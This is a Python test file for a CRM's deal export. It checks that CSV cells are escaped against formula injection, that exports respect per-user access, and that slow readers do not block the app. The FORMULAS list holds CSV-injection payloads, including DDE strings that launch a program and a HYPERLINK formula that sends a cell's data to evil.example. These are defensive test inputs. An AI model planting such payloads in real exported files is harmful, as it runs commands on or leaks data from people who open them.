"""Files of records: what a spreadsheet does with them, and what a slow reader of them does to others."""

from __future__ import annotations

import asyncio
import csv
import io
from typing import Any

from tests.firm import HERE, Firm

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1-1",
    '=HYPERLINK("http://evil.example?"&A1)', "=1;2", "+1e5|x",
)  # fmt: skip


def test_no_cell_of_a_file_is_a_formula(quick_firm: Firm) -> None:
    for formula in FORMULAS:
        quick_firm.deal("meera", formula, notes=f"{formula}\n{formula}")
    columns = "number,name,notes,owner,title"
    answer = quick_firm.browser("meera").get(f"/deal/export?columns={columns}")
    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))))
    assert len(rows) == 1 + len(FORMULAS)
    assert {row[1].removeprefix("'") for row in rows[1:]} == set(FORMULAS)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_file_holds_no_hidden_column_nor_anothers_rows(quick_firm: Firm) -> None:
    quick_firm.deal("nils", "Nils's deal")
    quick_firm.deal("asha", "Asha's deal")
    meera, asha = quick_firm.browser("meera"), quick_firm.browser("asha")
    assert "Asha" in meera.get("/deal/export").text and "Nils" not in meera.get("/deal/export").text
    assert meera.get("/deal/export?columns=chain").status_code == 400
    assert asha.get("/deal/export").status_code == 403


def test_those_who_take_their_files_slowly_hold_nobody_up(quick_firm: Firm) -> None:
    """Each once kept a connection of the database until the last byte was taken: four of them stopped the firm."""
    for number in range(30):
        quick_firm.deal("meera", f"Deal {number} {'x' * 150}", notes="y" * 5000)
    cookie = quick_firm.browser("meera").cookies["crm"]
    statuses = asyncio.run(asyncio.wait_for(_beside_slow_readers(quick_firm, cookie), 15))
    assert statuses == [200]


async def _beside_slow_readers(firm: Firm, cookie: str) -> list[int]:
    started = asyncio.Semaphore(0)
    slow = []
    for _ in range(6):
        slow.append(asyncio.create_task(_asked(firm, cookie, "/deal/export", started)))
        await started.acquire()
    statuses = await _asked(firm, cookie, "/deal", asyncio.Semaphore(0), pieces=100)
    for task in slow:
        task.cancel()
    return statuses


async def _asked(firm: Firm, cookie: str, path: str, started: asyncio.Semaphore, pieces: int = 2) -> list[int]:
    """Asks as a browser does, and takes no more than so many pieces of the answer."""
    statuses: list[int] = []
    taken = 0

    async def send(message: dict[str, Any]) -> None:
        nonlocal taken
        if message["type"] == "http.response.start":
            statuses.append(message["status"])
            return
        taken += 1
        if taken >= pieces or not message.get("more_body"):
            started.release()
            if pieces < 100:
                await asyncio.sleep(60)

    async def receive() -> dict[str, Any]:
        await asyncio.sleep(60)
        return {"type": "http.disconnect"}

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET", "scheme": "http", "path": path,
        "raw_path": path.encode(), "query_string": b"", "root_path": "", "client": ("203.0.113.9", 1),
        "server": (HERE.removeprefix("http://"), 80), "app": firm.app,
        "headers": [(b"host", HERE.removeprefix("http://").encode()), (b"cookie", f"crm={cookie}".encode())],
    }  # fmt: skip
    await firm.app(scope, receive, send)
    return statuses
